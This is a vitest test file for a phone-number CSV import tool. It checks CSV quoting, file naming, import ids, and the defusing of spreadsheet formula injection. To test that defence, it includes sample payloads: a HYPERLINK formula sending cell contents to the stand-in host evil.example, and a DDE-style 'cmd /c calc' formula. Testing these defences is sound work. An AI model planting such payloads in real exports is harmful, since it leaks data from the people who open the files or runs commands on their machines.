import { describe, expect, it } from 'vitest';

import { importIdFor, isDryRunName, resultsPath, summaryPath } from '../../shared/phones/files';
import { csvCell, fileProblemResults, resultLine } from '../../shared/phones/results';

describe('results file', () => {
  it('quotes cells with delimiters, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain')).toBe('plain');
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
  });

  it('guards every cell: masked numbers starting with +, rejected phone cells, leading spaces and full-width signs', () => {
    expect(csvCell('+* ******0100')).toBe("'+* ******0100");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\uff1dcmd|"/c calc"!A1')).toBe('"\'\uff1dcmd|""/c calc""!A1"');
    // A rejected row keeps what the file had in its phone cell (masked digits only): it must not run either.
    const rejected = resultLine({
      line: 3,
      user: 'a@b.com',
      maskedPhone: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      state: 'done',
      status: 'failed',
      action: 'none',
      reason: '+ not a phone number',
    });
    expect(rejected.split(',').slice(2).join(',')).toMatch(/^"'=HYPERLINK/);
    expect(rejected).toContain("'+ not a phone number");
  });

  it('writes one line per row with the masked number', () => {
    expect(
      resultLine({
        line: 7,
        user: 'a@b.com',
        maskedPhone: '+* ******0100',
        state: 'done',
        status: 'created',
        action: 'add mobile',
        reason: '',
      }),
    ).toBe("7,a@b.com,'+* ******0100,created,add mobile,\r\n");
  });

  it('says what is wrong with a rejected file and where', () => {
    expect(fileProblemResults({ code: 'CSV_MISSING_COLUMNS', message: 'Line 1: the header needs a phone column', line: 1 })).toBe(
      'line,user,phoneNumber,status,action,reason\r\n1,,,failed,rejected file,CSV_MISSING_COLUMNS: Line 1: the header needs a phone column\r\n',
    );
  });
});

describe('file naming and identity', () => {
  it('names results after the input and recognises dry runs', () => {
    expect(resultsPath('contacts.csv')).toBe('results/contacts.results.csv');
    expect(summaryPath('team/contacts.dryrun.csv')).toBe('results/team/contacts.dryrun.summary.json');
    expect(isDryRunName('x.DryRun.csv')).toBe(true);
    expect(isDryRunName('dryrun.txt.csv')).toBe(false);
  });

  it('gives the same name and content the same import id, and a dry run its own', () => {
    expect(importIdFor('a.csv', 'h1', false)).toBe(importIdFor('a.csv', 'h1', false));
    expect(importIdFor('a.csv', 'h1', false)).not.toBe(importIdFor('a.csv', 'h2', false));
    expect(importIdFor('a.csv', 'h1', false)).not.toBe(importIdFor('a.csv', 'h1', true));
    expect(importIdFor('a.csv', 'h1', false)).toMatch(/^imp[0-9a-f]{29}$/);
  });
});
